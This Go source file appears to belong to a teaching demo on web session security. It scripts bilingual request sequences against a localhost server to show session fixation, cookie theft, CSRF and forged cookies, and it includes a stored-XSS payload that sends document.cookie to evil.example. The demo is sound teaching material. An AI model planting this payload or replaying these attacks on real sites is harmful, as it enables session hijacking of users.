package twin

import (
	"net/url"
	"time"

	"sessionlab/internal/demo"
)

// Script is a story in requests.
type Script struct {
	Name     string
	Title    demo.Text
	Planted  string // the value of a cookie that is in your browser before all else
	Requests []Request
}

// Request is one request of a script.
type Request struct {
	By    string // who sends it: You, Thief or Site
	Says  demo.Text
	After time.Duration // how much time goes by before it
	// Raw is the request in bytes, but for its holes. {cookie} is the Cookie line that
	// the sender's browser adds, {name} the cookie's name as the server last gave it,
	// {copied} the Cookie line of whoever copied your cookie out of your browser after
	// your last login, {scripted} the Cookie line of whom a script in your page sent
	// all it could read, {token} what the page's form has beside its field, {length}
	// the body's length.
	Raw string
}

// Who sends a request.
const (
	You   = "you"   // a browser with a jar
	Thief = "thief" // a program that knows what was stolen
	Site  = "site"  // your browser, made to by a page of another site
)

const (
	get   = "GET / HTTP/1.1\r\nHost: localhost:8000"
	post  = " HTTP/1.1\r\nHost: localhost:8000\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}"
	end   = "\r\n\r\n"
	open  = get + "{cookie}" + end
	login = "POST /login" + post + "{cookie}" + end + "username="
	leave = "POST /logout" + post + "{cookie}" + end + "{token}"
)

// thiefsScript is a name that sends the cookie away.
const thiefsScript = "<script>fetch('//evil.example?'+document.cookie)</script>"

var (
	visits    = Request{By: You, Says: demo.Text{KO: "첫 화면을 엽니다", EN: "You open the first page"}, Raw: open}
	logsIn    = Request{By: You, Says: demo.Text{KO: "kim으로 로그인합니다", EN: "You log in as kim"}, Raw: login + "kim{token}"}
	looks     = Request{By: You, Says: demo.Text{KO: "로그인한 화면을 봅니다", EN: "You look at the page"}, Raw: open}
	copyComes = Request{By: Thief, Says: demo.Text{KO: "베껴 간 쿠키로 도둑이 들어옵니다", EN: "A thief comes with a copy of your cookie"}, Raw: get + "{copied}" + end}
)

// Scripts are all there are.
var Scripts = []Script{
	{"visit", demo.Text{KO: "첫 방문과 새로고침", EN: "A first visit and a reload"}, "", []Request{
		visits,
		{By: You, Says: demo.Text{KO: "새로고침합니다", EN: "You reload it"}, Raw: open},
	}},
	{"login", demo.Text{KO: "로그인", EN: "A login"}, "", []Request{visits, logsIn, looks}},
	{"planted", demo.Text{KO: "심어 둔 세션 ID로 로그인(세션 고정)", EN: "A login with a planted ID (fixation)"}, "planted-by-mallory", []Request{
		{By: You, Says: demo.Text{KO: "공격자가 쿠키를 심어 둔 브라우저로 첫 화면을 엽니다", EN: "You open the first page in a browser where an attacker planted a cookie"}, Raw: open},
		logsIn,
		{By: Thief, Says: demo.Text{KO: "공격자가 자기가 심은 ID로 들어옵니다", EN: "The attacker comes with the ID that they planted"},
			Raw: get + "\r\nCookie: sessionid=planted-by-mallory" + end},
	}},
	{"stolen", demo.Text{KO: "로그인한 뒤 쿠키를 베끼기", EN: "A login, and a copied cookie"}, "", []Request{visits, logsIn, copyComes}},
	{"script", demo.Text{KO: "이름에 넣은 스크립트", EN: "A name with a script in it"}, "", []Request{
		visits,
		{By: You, Says: demo.Text{KO: "쿠키를 빼돌리는 스크립트가 이름으로 저장됩니다", EN: "A script that sends the cookie away is stored as the name"}, Raw: login + url.QueryEscape(thiefsScript) + "{token}"},
		{By: You, Says: demo.Text{KO: "이름이 적힌 화면을 엽니다", EN: "You open the page with the name"}, Raw: open},
		{By: Thief, Says: demo.Text{KO: "스크립트가 돌았다면, 읽을 수 있던 쿠키로 도둑이 들어옵니다", EN: "A thief comes with what the script could read, if it ran"},
			Raw: get + "{scripted}" + end},
	}},
	{"cross-site", demo.Text{KO: "다른 사이트의 폼(CSRF)", EN: "Another site's form (CSRF)"}, "", []Request{
		visits, logsIn,
		{By: Site, Says: demo.Text{KO: "evil.example의 페이지가 당신의 브라우저로 폼을 보냅니다. 토큰은 모릅니다", EN: "A page of evil.example makes your browser send a form; it knows no token"},
			Raw: "POST /login" + post + "\r\nOrigin: http://evil.example{cookie}" + end + "username=mallory"},
		{By: You, Says: demo.Text{KO: "화면을 다시 봅니다", EN: "You look at the page again"}, Raw: open},
	}},
	{"logout", demo.Text{KO: "로그아웃한 뒤 다시 오기", EN: "A logout, and coming back"}, "", []Request{
		visits, logsIn, looks,
		{By: You, Says: demo.Text{KO: "로그아웃합니다", EN: "You log out"}, Raw: leave},
		{By: You, Says: demo.Text{KO: "첫 화면을 다시 엽니다", EN: "You open the first page again"}, Raw: open},
		copyComes,
	}},
	{"forged", demo.Text{KO: "지어낸 쿠키", EN: "A made-up cookie"}, "", []Request{
		{By: Thief, Says: demo.Text{KO: "쿠키의 이름을 알아 둡니다", EN: "Someone learns the cookie's name"}, Raw: get + end},
		{By: Thief, Says: demo.Text{KO: "지어낸 값을 보냅니다", EN: "They send a value that they made up"}, Raw: get + "\r\nCookie: {name}=made-up" + end},
		{By: Thief, Says: demo.Text{KO: "그 이름으로 끝나는 다른 쿠키를 보냅니다", EN: "They send another cookie, whose name ends like it"}, Raw: get + "\r\nCookie: my{name}=other" + end},
	}},
	{"later", demo.Text{KO: "다음 날 다시 오기", EN: "Coming back the next day"}, "", []Request{
		visits, logsIn,
		{By: You, Says: demo.Text{KO: "하루 뒤에 다시 엽니다", EN: "You come back a day later"}, After: 24 * time.Hour, Raw: open},
		copyComes,
	}},
}

// Find is the script of a name.
func Find(name string) (Script, bool) {
	for _, s := range Scripts {
		if s.Name == name {
			return s, true
		}
	}
	return Script{}, false
}
